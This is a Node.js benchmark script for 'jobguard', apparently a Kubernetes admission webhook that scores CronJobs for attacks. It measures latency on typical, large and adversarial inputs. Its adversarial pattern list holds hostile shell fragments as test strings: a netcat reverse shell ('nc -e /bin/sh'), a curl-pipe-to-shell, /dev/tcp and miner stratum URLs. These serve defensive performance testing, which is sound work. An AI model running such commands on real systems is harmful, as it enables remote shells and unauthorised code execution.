// npm run bench:engine: the scoring engine alone (buildWorkload → rules → decide through assess()),
// against dist/ after `npm run build`. No jest, no server. Prints, for the default and kql profiles:
//   1. median and p99 µs for a typical CronJob (the Kubernetes docs' hello) and a typical attack
//      (Atomic Red Team's miner CronJob), with JSON.parse of the same object as the baseline;
//      and the CPU time per review of the webhook's handler (JSON.parse and handleReview, no HTTP)
//      over `npm run bench`'s mix of 300+ distinct reviews and over its single review, the
//      figures to hold against the server's CPU per review;
//   2. a 1.5 MiB object with 100 containers (target: under 20 ms);
//   3. cost against object size, 64 KiB … 2 MiB: µs per KiB and the largest/smallest per-KiB ratio;
//   4. adversarial 1 MiB inputs for every regex and parser path, as a `sh -c` script and as a plain
//      argv item, with the ratio to 16 × the same pattern at 64 KiB (1.0 = perfectly linear).
// BENCH_QUICK=1 runs fewer iterations (a smoke run).
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { assess, createEngine } from '../dist/engine.js';
import { DEFAULT_POLICY } from '../dist/policy/schema.js';
import { handlerCpu } from './handler.mjs';
import { mixedReviews, realisticReview } from './setup.mjs';

const root = fileURLToPath(new URL('..', import.meta.url));
const quick = process.env.BENCH_QUICK === '1';
const NOW = new Date('2026-11-27T12:00:00Z');
const KiB = 1024;
const MiB = 1024 * KiB;

const engines = {
  default: createEngine(DEFAULT_POLICY),
  kql: createEngine({ ...DEFAULT_POLICY, profile: 'kql' }),
};

const fixture = (name) => readFileSync(`${root}test/fixtures/kubectl/${name}`, 'utf8');

/** Runs fn on a fresh parse of `text` each time (the webhook parses every request), timing only fn. */
function sample(text, fn, { warmup, iterations }) {
  for (let i = 0; i < warmup; i++) fn(JSON.parse(text));
  const times = new Float64Array(iterations);
  for (let i = 0; i < iterations; i++) {
    const object = JSON.parse(text);
    const start = process.hrtime.bigint();
    fn(object);
    times[i] = Number(process.hrtime.bigint() - start) / 1000;
  }
  times.sort();
  const at = (q) => times[Math.min(times.length - 1, Math.floor(q * times.length))];
  return { median: at(0.5), p99: at(0.99) };
}

/** Times JSON.parse itself, the baseline every request pays anyway. */
function sampleParse(text, { warmup, iterations }) {
  let sink = 0;
  for (let i = 0; i < warmup; i++) sink += JSON.parse(text) ? 1 : 0;
  const times = new Float64Array(iterations);
  for (let i = 0; i < iterations; i++) {
    const start = process.hrtime.bigint();
    sink += JSON.parse(text) ? 1 : 0;
    times[i] = Number(process.hrtime.bigint() - start) / 1000;
  }
  times.sort();
  if (sink < 0) console.log(sink);
  const at = (q) => times[Math.min(times.length - 1, Math.floor(q * times.length))];
  return { median: at(0.5), p99: at(0.99) };
}

function score(engine) {
  return (object) => {
    const result = assess(engine, object, { now: NOW });
    if (!result) throw new Error('no pod template');
    return result.decision.score;
  };
}

const fmt = (n, digits = 1) => (n >= 100 ? n.toFixed(0) : n.toFixed(digits));
function table(header, rows) {
  const widths = header.map((h, i) => Math.max(h.length, ...rows.map((r) => String(r[i]).length)));
  const line = (cells) => `| ${cells.map((c, i) => String(c).padEnd(widths[i])).join(' | ')} |`;
  console.log(line(header));
  console.log(`|${widths.map((w) => '-'.repeat(w + 2)).join('|')}|`);
  for (const row of rows) console.log(line(row));
  console.log('');
}

// ---- objects ------------------------------------------------------------------------------------

function cronJob(containers, extraSpec = {}) {
  return {
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    metadata: { name: 'bench', namespace: 'default' },
    spec: {
      schedule: '*/5 * * * *',
      jobTemplate: { spec: { template: { spec: { containers, restartPolicy: 'OnFailure', ...extraSpec } } } },
    },
  };
}

/** A realistic maintenance script of about `bytes` characters: loops, pipes, curl, kubectl, quoting. */
function script(bytes, seed) {
  const lines = [
    'set -eu',
    `for ns in $(kubectl get ns -o name | cut -d/ -f2); do`,
    `  kubectl get pods -n "$ns" --field-selector=status.phase==Succeeded -o name | xargs -r kubectl delete -n "$ns"`,
    'done',
    `curl -fsS --max-time 5 "http://api-${seed}.default.svc:8080/healthz" || echo "api ${seed} unhealthy" >&2`,
    `find /data/${seed} -name '*.tmp' -mtime +2 -print0 | xargs -0 -r rm -f`,
    `if [ -f /config/app-${seed}.yaml ]; then sed -i 's/replicas: [0-9]*/replicas: 3/' /config/app-${seed}.yaml; fi`,
    `tar czf /backup/${seed}-$(date +%Y%m%d).tgz -C /data/${seed} . && echo "backup ${seed} done"`,
  ];
  let out = '';
  for (let i = 0; out.length < bytes; i++) out += `${lines[i % lines.length]}\n`;
  return out.slice(0, bytes);
}

function container(i, scriptBytes) {
  return {
    name: `c${i}`,
    image: `registry.example.com/ops/tool-${i}:1.${i}.0`,
    command: ['/bin/sh', '-c', script(scriptBytes, i)],
    env: [
      { name: 'MODE', value: 'batch' },
      { name: 'PASSWORD', valueFrom: { secretKeyRef: { name: 's', key: 'p' } } },
    ],
    volumeMounts: [{ name: 'data', mountPath: `/data/${i}` }],
    securityContext: { allowPrivilegeEscalation: false, runAsNonRoot: true },
  };
}

/** An object of about `bytes` of JSON made of `count` similar containers. */
function objectOfSize(bytes, count) {
  const overhead = JSON.stringify(cronJob([container(0, 0)])).length;
  const per = Math.max(64, Math.floor((bytes - overhead) / count) - 400);
  return cronJob(
    Array.from({ length: count }, (_, i) => container(i, per)),
    {
      volumes: [{ name: 'data', emptyDir: {} }],
    },
  );
}

// ---- 1. typical objects --------------------------------------------------------------------------
const typicalOptions = quick ? { warmup: 200, iterations: 2000 } : { warmup: 3000, iterations: 30000 };
const typical = [
  ['hello CronJob (benign)', fixture('hello-cronjob.json')],
  ['miner CronJob (attack)', fixture('miner-cronjob.json')],
];
console.log(`# jobguard engine bench (node ${process.version}${quick ? ', quick' : ''})\n`);
console.log('## Typical CronJobs: µs per assess(), JSON.parse of the same text as baseline\n');
const typicalRows = [];
for (const [name, text] of typical) {
  const parse = sampleParse(text, typicalOptions);
  typicalRows.push([name, 'JSON.parse', `${text.length} B`, fmt(parse.median, 2), fmt(parse.p99, 2), '1.0']);
  for (const [profile, engine] of Object.entries(engines)) {
    const r = sample(text, score(engine), typicalOptions);
    typicalRows.push([name, profile, '', fmt(r.median, 2), fmt(r.p99, 2), fmt(r.median / parse.median)]);
  }
}
table(['object', 'profile', 'size', 'median µs', 'p99 µs', '× JSON.parse'], typicalRows);

const mix = mixedReviews().reviews.map((r) => JSON.stringify(r));
const single = [JSON.stringify(realisticReview())];
const reviewIterations = quick ? 1000 : 20000;
console.log(
  `## The webhook's handler without HTTP: CPU µs per review (JSON.parse + handleReview), default profile\n`,
);
table(
  ['body', 'reviews', 'CPU µs per review'],
  [
    [`npm run bench's mix`, mix.length, fmt(handlerCpu(mix, reviewIterations, engines.default))],
    [`npm run bench's single review`, 1, fmt(handlerCpu(single, reviewIterations, engines.default))],
  ],
);

// ---- 2. the big object ---------------------------------------------------------------------------
const bigOptions = quick ? { warmup: 2, iterations: 5 } : { warmup: 5, iterations: 40 };
const big = JSON.stringify(objectOfSize(1.5 * MiB, 100));
console.log(
  `## 1.5 MiB CronJob with 100 containers (${(big.length / MiB).toFixed(2)} MiB of JSON; target < 20 ms)\n`,
);
const bigParse = sampleParse(big, bigOptions);
const bigRows = [['JSON.parse', fmt(bigParse.median / 1000, 2), fmt(bigParse.p99 / 1000, 2), '1.0', '']];
for (const [profile, engine] of Object.entries(engines)) {
  const r = sample(big, score(engine), bigOptions);
  bigRows.push([
    profile,
    fmt(r.median / 1000, 2),
    fmt(r.p99 / 1000, 2),
    fmt(r.median / bigParse.median),
    r.p99 / 1000 < 20 ? 'yes' : 'NO',
  ]);
}
table(['profile', 'median ms', 'p99 ms', '× JSON.parse', '< 20 ms'], bigRows);

// ---- 3. cost against size ------------------------------------------------------------------------
console.log('## Cost against object size (containers of ~16 KiB scripts; default profile)\n');
const sizes = [64, 128, 256, 512, 1024, 2048];
const sizeRows = [];
const perKiB = [];
for (const kib of sizes) {
  const text = JSON.stringify(objectOfSize(kib * KiB, Math.max(1, Math.round(kib / 16))));
  const options = quick ? { warmup: 2, iterations: 5 } : { warmup: 5, iterations: kib <= 256 ? 60 : 20 };
  const parse = sampleParse(text, options);
  const r = sample(text, score(engines.default), options);
  const k = r.median / (text.length / KiB);
  perKiB.push(k);
  sizeRows.push([
    `${kib} KiB`,
    Math.max(1, Math.round(kib / 16)),
    fmt(r.median / 1000, 2),
    fmt(k, 2),
    fmt(parse.median / (text.length / KiB), 2),
    fmt(r.median / parse.median),
  ]);
}
table(['size', 'containers', 'median ms', 'µs per KiB', 'JSON.parse µs per KiB', '× JSON.parse'], sizeRows);
console.log(
  `per-KiB cost, largest / smallest object: ${(perKiB.at(-1) / perKiB[0]).toFixed(2)} (1.0 = linear)\n`,
);

// ---- 4. adversarial inputs -----------------------------------------------------------------------
const patterns = [
  ['((((', '('],
  ['$($(', '$('],
  ['double quotes', '"'],
  ['single quotes', "'"],
  ['backticks', '`'],
  ['a without spaces', 'a'],
  ['/dev/tcp/ repeated', '/dev/tcp/'],
  ['base64 characters', 'QUJDRGVmZ2hpams0NTY3Kys/'],
  ['stratum+tcp:// fragments', 'stratum+tcp://'],
  ['/etc/ repeated', '/etc/'],
  ['spaces', ' '],
  ['backslashes', '\\'],
  ['\\x41 escapes', '\\x41'],
  ['nc -e repeated', 'nc -e /bin/sh 1.2.3.4 1 ; '],
  ['curl|sh repeated', 'curl http://x/|sh;'],
  ['<<EOF heredocs', '<<EOF\n'],
];
const fill = (unit, bytes) => unit.repeat(Math.ceil(bytes / unit.length)).slice(0, bytes);
const adversarialObject = (payload, where) =>
  cronJob([
    {
      name: 'x',
      image: 'alpine:3.20',
      command: where === 'script' ? ['/bin/sh', '-c', payload] : ['/app/run', payload],
    },
  ]);

console.log(
  '## Adversarial inputs: 1 MiB of one pattern (ms per assess(); ratio = t(1 MiB) / (16 × t(64 KiB)))\n',
);
const advOptions = quick ? { warmup: 1, iterations: 3 } : { warmup: 2, iterations: 9 };
const advRows = [];
let worst = 0;
for (const [name, unit] of patterns) {
  const row = [name];
  for (const where of ['script', 'argv']) {
    const big = JSON.stringify(adversarialObject(fill(unit, MiB), where));
    const small = JSON.stringify(adversarialObject(fill(unit, 64 * KiB), where));
    const parse = sampleParse(big, advOptions);
    const rBig = sample(big, score(engines.default), advOptions);
    const rSmall = sample(small, score(engines.default), {
      ...advOptions,
      iterations: advOptions.iterations * 3,
    });
    const rKql = sample(big, score(engines.kql), advOptions);
    worst = Math.max(worst, rBig.median);
    row.push(
      fmt(rBig.median / 1000, 1),
      fmt(rBig.median / (16 * rSmall.median), 2),
      fmt(rBig.median / parse.median),
    );
    if (where === 'script') row.push(fmt(rKql.median / 1000, 1));
  }
  advRows.push(row);
}
table(
  [
    'pattern (1 MiB)',
    'sh -c: default ms',
    'ratio vs 64 KiB',
    '× JSON.parse',
    'kql ms',
    'argv: default ms',
    'ratio vs 64 KiB',
    '× JSON.parse',
  ],
  advRows,
);
console.log(`slowest adversarial input: ${fmt(worst / 1000, 1)} ms`);
